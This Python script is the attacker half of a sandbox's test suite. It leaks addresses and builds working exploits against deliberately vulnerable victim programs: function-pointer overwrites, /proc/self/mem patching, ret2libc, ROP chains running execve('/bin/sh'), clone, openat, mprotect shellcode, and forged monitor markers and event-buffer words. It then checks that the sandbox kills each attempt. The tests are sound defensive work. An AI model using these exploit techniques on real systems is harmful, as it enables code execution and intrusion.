#!/usr/bin/python3
"""The attacker of the attack suite (Tests/attacks). Python 3 standard library only.

  attacks.py prepare VICTIM [--walk TRACE]   the attacker's static knowledge of a built
                                             victim (symbols, gadgets, PLT, libc offsets,
                                             marker instructions, a forged-marker walk),
                                             written to VICTIM.attack.json
  attacks.py prepare VICTIM --evbuf-walk TRACE
                                             the same for bufd (built with --dyck-buffer):
                                             the buffer's offset and the events to forge
  attacks.py check-record ATTACK VICTIM REPORT
                                             whether sbx run's --json-report REPORT holds
                                             the kill record ATTACK must cause (evbuf-*)
  attacks.py run ATTACK VICTIM OUTPREFIX [-- RUNNER...]
                                             attack a running victim: RUNNER... VICTIM
                                             (e.g. `sbx run --mode dyck --`), talking to
                                             its stdin/stdout; the victim's stdout and
                                             stderr go to OUTPREFIX.out / .err; exits with
                                             the runner's status (128+N for signal N)

Everything the attacks need at run time comes from what the victim tells every
client (its `debug` line: the address of a global of the executable and of libc's
puts) and from the files an attacker can read (the executable, libc, the policy):
no address is guessed and ASLR stays on.
"""
import json
import os
import re
import select
import struct
import subprocess
import sys
import threading
import time

SBX_MARKER_NR = 999
EVBUF_CAP = 32                                       # SBX_EVBUF_CAP
KINDS = {"libc": 1, "call": 2, "ret": 3, "cb-enter": 4, "cb-exit": 5, "tail": 6,
         "sj-save": 7, "sj-resume": 8}

# Linux x86-64 system call numbers.
NR_WRITE, NR_MPROTECT, NR_CLONE, NR_VFORK, NR_EXECVE = 1, 10, 56, 58, 59
NR_EXIT_GROUP, NR_OPENAT, NR_CLONE3 = 231, 257, 435
AT_FDCWD = -100
O_WRONLY, O_CREAT, O_TRUNC = 0o1, 0o100, 0o1000
SIGCHLD = 17


def p64(v):
    return struct.pack("<Q", v & 0xFFFFFFFFFFFFFFFF)


def sh(*cmd):
    return subprocess.run(cmd, check=True, capture_output=True, text=True).stdout


# ----------------------------------------------------------------------------------
# prepare: what an attacker reads from the files
# ----------------------------------------------------------------------------------

def symbols(path):
    """Every symbol of the executable's symbol table (nm), name -> (address, size)."""
    out = {}
    for line in sh("nm", "-S", path).splitlines():
        parts = line.split()
        if len(parts) == 4:
            out[parts[3]] = (int(parts[0], 16), int(parts[1], 16))
        elif len(parts) == 3 and parts[1] not in ("U", "w", "v"):
            out.setdefault(parts[2], (int(parts[0], 16), 0))
    return out


def libc_path(victim):
    for line in sh("ldd", victim).splitlines():
        m = re.match(r"\s*libc\.so\.6 => (\S+)", line)
        if m:
            return os.path.realpath(m.group(1))
    raise SystemExit("prepare: %s: no libc.so.6 in ldd's output" % victim)


def libc_offsets(libc, names):
    offs = {}
    for line in sh("nm", "-D", "--defined-only", libc).splitlines():
        parts = line.split()
        if len(parts) == 3:
            name = parts[2].split("@")[0]
            if name in names and ("@@" in parts[2] or name not in offs):
                offs[name] = int(parts[0], 16)
    missing = set(names) - set(offs)
    if missing:
        raise SystemExit("prepare: %s lacks %s" % (libc, sorted(missing)))
    return offs


def plt_entry(victim, name):
    for line in sh("objdump", "-d", "-j", ".plt", "-j", ".plt.sec", "-j", ".plt.got",
                   victim).splitlines():
        m = re.match(r"([0-9a-f]+) <%s@plt>:" % re.escape(name), line)
        if m:
            return int(m.group(1), 16)
    return None


def syscall_insns(victim, func):
    """Addresses of the `syscall` instructions of a function: its marker sites."""
    addrs, inside = [], False
    for line in sh("objdump", "-d", "--no-show-raw-insn", victim).splitlines():
        if re.match(r"[0-9a-f]+ <%s>:" % re.escape(func), line):
            inside = True
            continue
        if inside:
            if not line.strip():
                break
            m = re.match(r"\s*([0-9a-f]+):\s+syscall\b", line)
            if m:
                addrs.append(int(m.group(1), 16))
    return addrs


def pinned_sites(path):
    """The executable's .sbx_sites table (specs/marker-abi.md, "Pinned sites"), if it
    has one: (kind, id) -> link-time address of one of its 16-byte entries. A forged
    marker names a genuine entry in rdx, so that only the address it is issued from
    gives it away."""
    with open(path, "rb") as f:
        elf = f.read()
    shoff, = struct.unpack_from("<Q", elf, 0x28)
    shentsize, shnum, shstrndx = struct.unpack_from("<HHH", elf, 0x3A)
    headers = [struct.unpack_from("<IIQQQQIIQQ", elf, shoff + i * shentsize)
               for i in range(shnum)]
    strtab = headers[shstrndx]
    entries = {}
    for name, _type, _flags, addr, offset, size, *_ in headers:
        end = elf.index(b"\0", strtab[4] + name)
        if elf[strtab[4] + name:end] != b".sbx_sites":
            continue
        for at in range(0, size, 16):
            _off, kind, ident, _zero = struct.unpack_from("<iIII", elf, offset + at)
            entries.setdefault("%d:%d" % (kind, ident), addr + at)
    return entries


def elf_section(path, wanted):
    """(link-time address, bytes) of the executable's section named wanted, or None."""
    with open(path, "rb") as f:
        elf = f.read()
    shoff, = struct.unpack_from("<Q", elf, 0x28)
    shentsize, shnum, shstrndx = struct.unpack_from("<HHH", elf, 0x3A)
    headers = [struct.unpack_from("<IIQQQQIIQQ", elf, shoff + i * shentsize)
               for i in range(shnum)]
    strtab = headers[shstrndx]
    for name, _type, _flags, addr, offset, size, *_ in headers:
        end = elf.index(b"\0", strtab[4] + name)
        if elf[strtab[4] + name:end] == wanted:
            return addr, elf[offset:offset + size]
    return None


def evbuf_tpoff(path):
    """The buffer's offset from the thread pointer, from the executable's .sbx_evbuf
    section (specs/marker-abi.md, "The .sbx_evbuf section": u32 version 1, u32
    capacity 32, s64 tpoff), or None for a program built without --dyck-buffer."""
    sec = elf_section(path, b".sbx_evbuf")
    if sec is None:
        return None
    version, cap, tpoff = struct.unpack_from("<IIq", sec[1], 0)
    if version != 1 or cap != EVBUF_CAP:
        raise SystemExit("prepare: %s: .sbx_evbuf version %d capacity %d" % (path, version, cap))
    return tpoff


def evbuf_walk(trace, policy):
    """The events a benign run of bufd makes (trace: `post 5`, then `log w`) from
    handle_post()'s hijacked return to log's open: what the attacker forges into the
    event buffer (evbuf-*). handle_post() reads its body with one read of 5 bytes
    and then makes exactly one system call, the write of its "post:" line, before it
    returns (bufd.c, say_number()): every marker after that write's line up to open's
    LIBC marker is the walk. sbx record writes buffered events as the markers they
    stand for, before the system call that drained them (specs/trace-format.md), so
    these are the events a build without --dyck-buffer would mark, in order; open's
    is a synchronous marker, all the others are bufferable."""
    ids = policy_symbols(policy)
    lines = []
    with open(trace) as f:
        for line in f:
            p = line.split()
            if p and p[0] in ("m", "s"):
                lines.append(p)
    body = next((i for i, p in enumerate(lines) if p[0] == "s" and p[3:5] == ["0", "5"]), None)
    if body is None:
        raise SystemExit("prepare: %s: no read of the 5-byte body" % trace)
    post = next((i for i in range(body + 1, len(lines))
                 if lines[i][0] == "s" and lines[i][3] == "1"), None)
    if post is None:
        raise SystemExit("prepare: %s: no write after the body's read" % trace)
    walk = []
    for p in lines[post + 1:]:
        if p[0] != "m":
            continue
        walk.append([KINDS[p[3]], int(p[4])])
        if walk[-1] == [KINDS["libc"], ids["open"]]:
            return walk
    raise SystemExit("prepare: %s: no LIBC open marker after handle_post()" % trace)


def policy_symbols(policy):
    ids = {}
    with open(policy) as f:
        for line in f:
            m = re.match(r"sym (\d+) (\S+)$", line.rstrip("\n"))
            if m:
                ids[m.group(2)] = int(m.group(1))
    return ids


def forged_walk(trace, policy):
    """The marker sequence an attacker replays after hijacking handle_post()'s return,
    taken from a recording of a benign run (`post`, then `log`): from the hijack point
    to fopen's LIBC marker (before the raw openat), then on to the first fputs LIBC
    marker (before the raw write). Those are exactly the markers a real run makes
    between the two points, so the automaton (dyck and nfa) accepts them.

    The hijack point is found by libc calls only, never by a call site, because which
    calls are sites depends on the build (dyck-cc --dyck-inline=K, specs/analysis.md,
    "Inlining small callees": with inlining, handle_post()'s call is no site and has
    no CALL/RET markers). handle_post() is the only caller of fread, and its last libc
    call is the fflush after its printf (checksum() calls none): the hijacked `ret`
    runs right after the first fflush LIBC marker that follows the fread one. What a
    benign run marks next is the walk: the post site's RET when the call is a site
    (K = 0), else the LIBC marker of main's printf."""
    ids = policy_symbols(policy)
    fread, fflush, fopen, fputs = ids["fread"], ids["fflush"], ids["fopen"], ids["fputs"]
    marks = []
    with open(trace) as f:
        for line in f:
            p = line.split()
            if p and p[0] == "m":
                marks.append((KINDS[p[3]] if p[3] in KINDS else None, int(p[4])))
    libc = KINDS["libc"]
    try:
        read_at = marks.index((libc, fread))
        start = marks.index((libc, fflush), read_at) + 1
        to_open = marks.index((libc, fopen), start)
        to_write = marks.index((libc, fputs), to_open)
    except ValueError:
        raise SystemExit("prepare: %s: no fread, fflush, fopen, fputs LIBC markers in "
                         "this order (the `post` then `log` run)" % trace)
    return {"hijack_after": [libc, fflush], "before_openat": marks[start:to_open + 1],
            "before_write": marks[to_open + 1:to_write + 1]}


def prepare(victim, walk_trace=None, evbuf_trace=None):
    syms = symbols(victim)
    elf_type = sh("readelf", "-h", victim)
    pie = "DYN (" in elf_type
    libc = libc_path(victim)
    info = {
        "victim": os.path.abspath(victim),
        "pie": pie,
        "libc": libc,
        "libc_offsets": libc_offsets(libc, ["puts", "system"]),
        "symbols": {k: v[0] for k, v in syms.items()
                    if k in ("banner", "cmdline", "S", "show_note") or k.startswith("gadget_")},
        "system_plt": plt_entry(victim, "system"),
    }
    if "show_note" in syms:
        # The markers of show_note()'s indirect render call: a site at every K, as
        # inlining never takes an indirect site away (specs/analysis.md, "Inlining
        # small callees", rule 1). Without any, procmem would only be fnptr-leak.
        info["show_note_syscalls"] = syscall_insns(victim, "show_note")
        if not info["show_note_syscalls"]:
            raise SystemExit("prepare: %s: show_note() has no marker instruction" % victim)
    if walk_trace:
        info["walk"] = forged_walk(walk_trace, victim + ".dyck")
        info["sites"] = pinned_sites(victim)
        for kind, ident in info["walk"]["before_openat"] + info["walk"]["before_write"]:
            if info["sites"] and "%d:%d" % (kind, ident) not in info["sites"]:
                raise SystemExit("prepare: no pinned site for marker %d:%d" % (kind, ident))
    tpoff = evbuf_tpoff(victim)
    if tpoff is not None:
        info["evbuf_tpoff"] = tpoff
        ids = policy_symbols(victim + ".dyck")
        info["policy_symbols"] = ids
    if evbuf_trace:
        if tpoff is None:
            raise SystemExit("prepare: %s: built without --dyck-buffer" % victim)
        info["evbuf_walk"] = evbuf_walk(evbuf_trace, victim + ".dyck")
    with open(victim + ".attack.json", "w") as f:
        json.dump(info, f, indent=1, sort_keys=True)


# ----------------------------------------------------------------------------------
# run: talking to a live victim
# ----------------------------------------------------------------------------------

class Victim:
    """A victim process (possibly under a runner such as sbx run) on pipes."""

    def __init__(self, cmd, timeout):
        self.timeout = timeout
        self.p = subprocess.Popen(cmd, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                  stderr=subprocess.PIPE)
        self.out = b""
        self.err = b""
        self._pending = b""
        self._errt = threading.Thread(target=self._drain_err, daemon=True)
        self._errt.start()

    def _drain_err(self):
        for chunk in iter(lambda: self.p.stderr.read1(65536), b""):
            self.err += chunk

    def send(self, data):
        try:
            self.p.stdin.write(data)
            self.p.stdin.flush()
            return True
        except (BrokenPipeError, OSError):
            return False

    def line(self):
        """The next stdout line (without LF), or None at EOF or after the timeout."""
        deadline = time.monotonic() + self.timeout
        fd = self.p.stdout.fileno()
        while b"\n" not in self._pending:
            left = deadline - time.monotonic()
            if left <= 0:
                return None
            r, _, _ = select.select([fd], [], [], left)
            if not r:
                return None
            chunk = os.read(fd, 65536)
            if not chunk:
                return None
            self._pending += chunk
            self.out += chunk
        line, self._pending = self._pending.split(b"\n", 1)
        return line.decode("latin-1")

    def expect(self, prefix):
        """Reads lines until one starts with prefix; None if the victim ended first."""
        while True:
            line = self.line()
            if line is None or line.startswith(prefix):
                return line

    def finish(self):
        try:
            self.p.stdin.close()
        except OSError:
            pass
        fd = self.p.stdout.fileno()
        deadline = time.monotonic() + self.timeout
        while time.monotonic() < deadline:
            r, _, _ = select.select([fd], [], [], max(0.0, deadline - time.monotonic()))
            if not r:
                break
            chunk = os.read(fd, 65536)
            if not chunk:
                break
            self.out += chunk
        try:
            st = self.p.wait(timeout=max(1.0, deadline - time.monotonic()))
        except subprocess.TimeoutExpired:
            self.p.kill()
            st = self.p.wait()
            self.err += b"\n[attacks.py: the victim did not end within the timeout: killed]\n"
        self._errt.join(timeout=5)
        return 128 - st if st < 0 else st


class Leak:
    def __init__(self, info, line):
        m = re.match(r"debug: banner at (0x[0-9a-f]+), puts at (0x[0-9a-f]+)", line or "")
        if not m:
            raise RuntimeError("no leak line (got %r)" % line)
        self.base = int(m.group(1), 16) - info["symbols"]["banner"] if info["pie"] else 0
        self.libc = int(m.group(2), 16) - info["libc_offsets"]["puts"]
        self.info = info

    def sym(self, name):
        return self.base + self.info["symbols"][name]

    def libc_sym(self, name):
        return self.libc + self.info["libc_offsets"][name]


def leak(v, info):
    v.send(b"debug\n")
    return Leak(info, v.expect("debug:"))


# --- notes.c: the struct overflow ---------------------------------------------------

def title_payload(text, path=0, offset=0, render=0):
    body = text.ljust(32, b"\0") + p64(path) + p64(offset) + p64(render)
    return b"title " + body.hex().encode() + b"\n"


def shell_cmd(attack):
    # CAN''ARY: the shell prints CANARY-..., but the bytes the attacker sends never
    # contain it, so an echo of the input can never fake the canary.
    return b"echo CAN''ARY-" + attack.encode()


def attack_fnptr_plt(v, info, name):
    """render -> system@plt (non-PIE: the PLT entry's address is in the file)."""
    if info["pie"] or info["system_plt"] is None:
        raise RuntimeError("fnptr-plt needs a non-PIE victim with system@plt")
    v.expect("notesd")
    v.send(title_payload(shell_cmd(name), render=info["system_plt"]))
    v.expect("title set")
    v.send(b"show\n")


def attack_fnptr_leak(v, info, name):
    """render -> system, computed from the leaked address of puts (PIE)."""
    v.expect("notesd")
    lk = leak(v, info)
    v.send(title_payload(shell_cmd(name), render=lk.libc_sym("system")))
    v.expect("title set")
    v.send(b"show\n")


def attack_procmem(v, info, name):
    """Data-only first: the overflow points the session's path at its own title,
    "/proc/self/mem", and its offset at a marker instruction of show_note(); the
    legitimate `save` then writes a 2-byte NOP over each `syscall` of show_note()
    (its CALL and RET markers around the render call). Then render -> system."""
    v.expect("notesd")
    lk = leak(v, info)
    title_addr = lk.sym("S")
    for insn in info["show_note_syscalls"]:
        v.send(title_payload(b"/proc/self/mem", path=title_addr, offset=lk.base + insn))
        v.expect("title set")
        v.send(b"save 6690\n")                      # 66 90: xchg %ax,%ax (a NOP)
        if v.expect("saved") is None:
            return
    v.send(title_payload(shell_cmd(name), render=lk.libc_sym("system")))
    v.expect("title set")
    v.send(b"show\n")


# --- stack.c: the return-address overwrite, ret2libc and ROP ---------------------------

class Rop:
    def __init__(self, lk):
        self.lk = lk
        self.words = []

    def g(self, name):
        return self.lk.sym("gadget_" + name)

    def add(self, *words):
        self.words.extend(words)
        return self

    def poke(self, addr, data):
        """Writes data at addr (write-what-where: pop rdi; pop rsi; mov %rsi,(%rdi))."""
        data = data + b"\0" * (-len(data) % 8)
        for i in range(0, len(data), 8):
            self.add(self.g("pop_rdi"), addr + i, self.g("pop_rsi"),
                     struct.unpack("<Q", data[i:i + 8])[0], self.g("write_rsi_to_rdi"))
        return self

    def syscall(self, nr, *args):
        regs = ["pop_rdi", "pop_rsi", "pop_rdx", "pop_r10", "pop_r8"]
        for reg, val in zip(regs, args):
            self.add(self.g(reg), val)
        return self.add(self.g("pop_rax"), nr, self.g("syscall"))

    def marker(self, kind, ident):
        # rdx: the run-time address of a genuine .sbx_sites entry with this kind and
        # id (when the build has a table): the marker names a real site, but is
        # issued from the `syscall` gadget, not from that site.
        entry = self.lk.info.get("sites", {}).get("%d:%d" % (kind, ident))
        rdx = self.lk.base + entry if entry is not None else 0
        return self.syscall(SBX_MARKER_NR, kind, ident, rdx)

    def evbuf(self, words, count=None, first=0):
        """Writes words into the thread's event buffer from slot `first` on, and its
        count (default: the slot after the last word). The buffer (__sbx_evbuf,
        specs/marker-abi.md, "The buffer": u32 count, u32 reserved, u64 ev[32]) is at
        the thread pointer, which %fs:0 holds, plus tpoff, which the executable's
        .sbx_evbuf section gives: no address is guessed."""
        if count is None:
            count = first + len(words)
        self.add(self.g("tp_to_rax"), self.g("pop_rsi"), self.lk.info["evbuf_tpoff"],
                 self.g("add_rsi_to_rax"), self.g("mov_rax_to_rdi"),
                 self.g("pop_rsi"), count, self.g("write_rsi_to_rdi"))  # count, reserved 0
        self.add(*[self.g("add8_rdi")] * first)
        for w in words:
            self.add(self.g("add8_rdi"), self.g("pop_rsi"), w, self.g("write_rsi_to_rdi"))
        return self

    def exit(self, code=0):
        return self.syscall(NR_EXIT_GROUP, code)

    def payload(self):
        # A ret sled: handle_post()'s return address lies somewhere in the first 24
        # words after its buffer (11 at -O0, 9 at -O2); every word up to the chain is
        # the address of a `ret`, so the chain runs wherever exactly it is.
        sled = [self.g("ret")] * 24
        return b"".join(p64(w) for w in sled + self.words)


def post(v, info, build):
    # The banner line: stack.c's "stackd 1.0" or bufd.c's "bufd 1.0" (waiting for
    # a line that never comes would cost the whole timeout).
    v.expect(("stackd ", "bufd "))
    lk = leak(v, info)
    rop = Rop(lk)
    build(rop, lk, lk.sym("cmdline"))
    data = rop.payload()
    v.send(b"post %d\n" % len(data) + data)


def write_canary(rop, scratch, name, fd=1):
    text = b"CANARY-" + name.encode() + b"\n"
    rop.poke(scratch + 448, text)
    return rop.syscall(NR_WRITE, fd, scratch + 448, len(text))


def attack_ret2libc(v, info, name):
    """Return into libc's system() with rdi = a command poked into .bss."""
    def build(rop, lk, scratch):
        rop.poke(scratch, shell_cmd(name) + b"\0")
        # The chain starts 16-aligned (handle_post's buffer is 16-aligned at -O0 and
        # -O2, and the sled is 24 words). system() must be entered with rsp = 8 mod
        # 16, as after a call (its movaps faults otherwise): its word must be at an
        # even index of the chain, hence an extra `ret` when the pokes left it odd.
        if (len(rop.words) + 2) % 2:
            rop.add(rop.g("ret"))
        rop.add(rop.g("pop_rdi"), scratch, lk.libc_sym("system"))
        rop.exit(0)
    post(v, info, build)


def execve_sh(rop, scratch, name):
    rop.poke(scratch, b"/bin/sh\0")
    rop.poke(scratch + 16, b"-c\0")
    rop.poke(scratch + 32, shell_cmd(name) + b"\0")
    rop.poke(scratch + 128, p64(scratch) + p64(scratch + 16) + p64(scratch + 32) + p64(0))
    return rop.syscall(NR_EXECVE, scratch, scratch + 128, 0)


def attack_rop_execve(v, info, name):
    """ROP to the raw `syscall` gadget: execve("/bin/sh", ["/bin/sh","-c",CMD], NULL)."""
    def build(rop, lk, scratch):
        execve_sh(rop, scratch, name)
        rop.exit(42)
    post(v, info, build)


def open_and_write(rop, scratch, name, before_openat=(), before_write=()):
    path = ("canary-" + name).encode() + b"\0"
    rop.poke(scratch, path)
    for k, i in before_openat:
        rop.marker(k, i)
    rop.syscall(NR_OPENAT, AT_FDCWD, scratch, O_WRONLY | O_CREAT | O_TRUNC, 0o644)
    rop.add(rop.g("mov_rax_to_rbx"))               # keep the fd across the markers
    for k, i in before_write:
        rop.marker(k, i)
    text = b"CANARY-" + name.encode() + b"\n"
    rop.poke(scratch + 448, text)
    rop.add(rop.g("mov_rbx_to_rdi"), rop.g("pop_rsi"), scratch + 448,
            rop.g("pop_rdx"), len(text), rop.g("pop_rax"), NR_WRITE, rop.g("syscall"))
    return rop


def attack_rop_openat(v, info, name):
    """ROP: openat(AT_FDCWD, "canary-rop-openat", O_CREAT...) and write() to it."""
    def build(rop, lk, scratch):
        open_and_write(rop, scratch, name)
        rop.exit(0)
    post(v, info, build)


def attack_forged(v, info, name):
    """Markers forged from the `syscall` gadget (not a marker site), each naming in rdx
    a genuine pinned entry with its kind and id: the sequence a
    benign run makes from handle_post()'s return (forged_walk: its RET marker when the
    call is a site, else the LIBC markers that follow) to `log`'s fopen and fputs
    (walking the automaton to where opening and writing a file is allowed), each
    followed by the raw system call of that libc function, on a file of the
    attacker's choice."""
    walk = info["walk"]

    def build(rop, lk, scratch):
        open_and_write(rop, scratch, name, walk["before_openat"], walk["before_write"])
        rop.exit(0)
    post(v, info, build)


def attack_mprotect(v, info, name, protection=7):
    """Shellcode poked into .bss, made RWX with a raw mprotect, then jumped to: it
    makes a raw write(1, "CANARY-...") and exit_group(0). With protection 5 (the
    two-step variant: the page was already writable when the chain poked the code),
    it is made read+execute, so W^X alone does not refuse it."""
    msg = b"CANARY-" + name.encode() + b"\n"
    code = (b"\x48\x8d\x35\x1a\x00\x00\x00"         # lea 0x1a(%rip),%rsi  (msg)
            b"\xbf\x01\x00\x00\x00"                 # mov $1,%edi
            b"\xba" + struct.pack("<I", len(msg)) +  # mov $len,%edx
            b"\xb8\x01\x00\x00\x00"                 # mov $1,%eax (write)
            b"\x0f\x05"                             # syscall
            b"\xb8\xe7\x00\x00\x00"                 # mov $231,%eax (exit_group)
            b"\x31\xff"                             # xor %edi,%edi
            b"\x0f\x05")                            # syscall
    assert len(code) == 33
    shellcode = code + msg

    def build(rop, lk, scratch):
        at = scratch + 256
        rop.poke(at, shellcode)
        page = at & ~0xFFF
        end = (at + len(shellcode) + 0xFFF) & ~0xFFF
        rop.syscall(NR_MPROTECT, page, end - page, protection)   # PROT_READ|WRITE|EXEC, or READ|EXEC
        rop.add(at)
    post(v, info, build)


def attack_mprotect_rx(v, info, name):
    """Shellcode written first, then its page made read+execute (never writable and
    executable at once): refused because the page was written (kernel-abi.md,
    "System-call binding", rule 3)."""
    attack_mprotect(v, info, name, protection=5)


def attack_clone(v, info, name):
    """Raw clone(SIGCHLD) (a fork without libc): parent and child both go on with
    the chain and write the canary, so a working clone shows it twice."""
    def build(rop, lk, scratch):
        rop.syscall(NR_CLONE, SIGCHLD, 0, 0, 0, 0)
        write_canary(rop, scratch, name)
        rop.exit(0)
    post(v, info, build)


def attack_clone3(v, info, name):
    """Raw clone3 with struct clone_args {exit_signal = SIGCHLD} poked into .bss:
    both processes write the canary."""
    def build(rop, lk, scratch):
        args = p64(0) * 4 + p64(SIGCHLD) + p64(0) * 3    # clone_args, 64 bytes
        rop.poke(scratch + 256, args)
        rop.syscall(NR_CLONE3, scratch + 256, len(args))
        write_canary(rop, scratch, name)
        rop.exit(0)
    post(v, info, build)


def attack_vfork(v, info, name):
    """Raw vfork, then execve("/bin/sh", ...) (the child; the parent, resumed after
    the child's exec, runs the same chain)."""
    def build(rop, lk, scratch):
        rop.syscall(NR_VFORK)
        execve_sh(rop, scratch, name)
        rop.exit(42)
    post(v, info, build)


# --- bufd.c (built with --dyck-buffer): forged words in the event buffer ---------------
# The hijack is stack.c's (bufd's handle_post() has the same bug); the chain first
# writes the thread's __sbx_evbuf, then makes the sensitive raw system call, at
# whose entry the monitor drains the buffer (specs/kernel-abi.md, "Buffered events").

def evword(kind, ident):
    return (kind << 32) | ident


def attack_evbuf_forged_libc(v, info, name):
    """(a) The walk a benign run makes from handle_post()'s return to log's open
    (evbuf_walk), forged into the buffer, open's LIBC event included: open's window
    may open files for writing, and the automaton accepts open there, but open is
    not bufferable (its derived set has the write right), so its event is refused
    from the buffer (reason 29). Then a raw openat of a file of the attacker's choice
    and a write of the canary into it."""
    def build(rop, lk, scratch):
        rop.evbuf([evword(k, i) for k, i in info["evbuf_walk"]])
        open_and_write(rop, scratch, name)
        rop.exit(0)
    post(v, info, build)


def attack_evbuf_forged_walk(v, info, name):
    """(b) The same walk without open's event: every word is a bufferable event the
    automaton accepts, up to log's doorstep. Then the raw openat for writing: outside
    the window of the last event taken (reason 20)."""
    def build(rop, lk, scratch):
        rop.evbuf([evword(k, i) for k, i in info["evbuf_walk"][:-1]])
        open_and_write(rop, scratch, name)
        rop.exit(0)
    post(v, info, build)


def evbuf_then_execve(words, **where):
    def attack(v, info, name):
        def build(rop, lk, scratch):
            rop.evbuf(words(info), **where)
            execve_sh(rop, scratch, name)
            rop.exit(42)
        post(v, info, build)
    return attack


# (c) Garbage, then execve("/bin/sh", ...): a word of an unknown kind (42); a LIBC
# word whose id is the policy's number of symbols (one past the last); a count of
# 2^32-1 with slot 31 all ones (the count is clamped to 32: slots 1..30 are 0, so
# the drain reaches slot 31 only through the clamp and the slot rule).
attack_evbuf_bad_kind = evbuf_then_execve(lambda info: [evword(42, 0)])
attack_evbuf_bad_id = evbuf_then_execve(
    lambda info: [evword(KINDS["libc"], len(info["policy_symbols"]))])
attack_evbuf_huge_count = evbuf_then_execve(
    lambda info: [0xFFFFFFFFFFFFFFFF], count=0xFFFFFFFF, first=31)


def expected_record(attack, info, mode):
    """What the kill record of an evbuf-* attack must say (sbx run --json-report's
    violation, specs/json-output.md): derived from bufd.c and the policy. The walk's
    two attacks in dyck mode also show that the forged walk was taken: the monitor's
    top frame is append_log()'s when the call is a site (where open() is allowed)."""
    buffered = "buffered event that may not come from the buffer"
    ids = info["policy_symbols"]
    nr_symbols = len(ids)
    walk = info["evbuf_walk"]
    in_log = {}
    if mode == "dyck" and len(walk) >= 2 and walk[-2][0] == KINDS["call"]:
        in_log = {"stack.0.function": "main", "stack.0.callees": ["append_log"]}
    if attack == "evbuf-forged-libc":
        return dict(in_log, **{"reason": buffered, "event.kind": "libc", "event.id": ids["open"],
                               "event.name": "open", "drained_at": NR_OPENAT})
    if attack == "evbuf-forged-walk":
        kind, ident = walk[-2]
        window = [k for k, v in ids.items() if v == ident][0] if kind == KINDS["libc"] else "none"
        return dict(in_log, **{"reason": "system call the announced libc function cannot make",
                               "event.kind": "syscall", "event.id": NR_OPENAT, "window": window})
    if attack == "evbuf-bad-kind":
        return {"reason": buffered, "event.kind": "unknown", "event.id": 0,
                "event.description": "marker of unknown kind 42 (id 0)", "drained_at": NR_EXECVE}
    if attack == "evbuf-bad-id":
        return {"reason": buffered, "event.kind": "libc", "event.id": nr_symbols,
                "drained_at": NR_EXECVE}
    if attack == "evbuf-huge-count":
        return {"reason": buffered, "event.kind": "unknown", "event.id": 0xFFFFFFFF,
                "event.description": "marker of unknown kind 4294967295 (id 4294967295)",
                "drained_at": NR_EXECVE}
    raise SystemExit("expect: no expected record for %s" % attack)


def check_record(attack, victim, report):
    """Exit 0 iff the run's report has exactly one violation, a kill, whose fields
    are expected_record's; prints what it compared."""
    with open(victim + ".attack.json") as f:
        info = json.load(f)
    try:
        with open(report) as f:
            doc = json.load(f)
        violations = doc["violations"]
        want = expected_record(attack, info, doc["mode"])
    except (OSError, ValueError, KeyError) as e:
        print("no report: %s" % e)
        return 1
    if len(violations) != 1:
        print("%d violations, want 1" % len(violations))
        return 1
    got, bad = violations[0], []
    for key, value in sorted(want.items()):
        field = got
        for part in key.split("."):
            if isinstance(field, list) and part.isdigit():
                field = field[int(part)] if int(part) < len(field) else None
            else:
                field = field.get(part) if isinstance(field, dict) else None
        ok = field.startswith(value) if key == "reason" and isinstance(field, str) else field == value
        if not ok:
            bad.append("%s %r, want %r" % (key, field, value))
    if not got.get("killed"):
        bad.append("not a kill record")
    if bad:
        print("; ".join(bad))
        return 1
    print(", ".join("%s %s" % (k, want[k]) for k in sorted(want)))
    return 0


ATTACKS = {
    "fnptr-plt": attack_fnptr_plt,
    "fnptr-leak": attack_fnptr_leak,
    "procmem": attack_procmem,
    "ret2libc": attack_ret2libc,
    "rop-execve": attack_rop_execve,
    "rop-openat": attack_rop_openat,
    "forged-markers": attack_forged,
    "mprotect-shellcode": attack_mprotect,
    "mprotect-rx-shellcode": attack_mprotect_rx,
    "clone": attack_clone,
    "clone3": attack_clone3,
    "vfork-execve": attack_vfork,
    "evbuf-forged-libc": attack_evbuf_forged_libc,
    "evbuf-forged-walk": attack_evbuf_forged_walk,
    "evbuf-bad-kind": attack_evbuf_bad_kind,
    "evbuf-bad-id": attack_evbuf_bad_id,
    "evbuf-huge-count": attack_evbuf_huge_count,
}


def run(attack, victim, prefix, runner, timeout):
    with open(victim + ".attack.json") as f:
        info = json.load(f)
    v = Victim(runner + [victim], timeout)
    note = ""
    try:
        ATTACKS[attack](v, info, attack)
    except RuntimeError as e:
        note = "[attacks.py: %s]\n" % e
    st = v.finish()
    with open(prefix + ".out", "wb") as f:
        f.write(v.out)
    with open(prefix + ".err", "wb") as f:
        f.write(v.err + note.encode())
    return st


def main(argv):
    if len(argv) >= 2 and argv[0] == "prepare":
        walk = evbuf = None
        if len(argv) == 4 and argv[2] == "--walk":
            walk = argv[3]
        if len(argv) == 4 and argv[2] == "--evbuf-walk":
            evbuf = argv[3]
        prepare(argv[1], walk, evbuf)
        return 0
    if len(argv) == 4 and argv[0] == "check-record":
        return check_record(argv[1], argv[2], argv[3])
    if len(argv) >= 4 and argv[0] == "run" and argv[1] in ATTACKS:
        runner = argv[5:] if len(argv) > 4 and argv[4] == "--" else []
        timeout = float(os.environ.get("ATTACK_TIMEOUT", "60"))
        return run(argv[1], argv[2], argv[3], runner, timeout)
    sys.stderr.write(__doc__)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
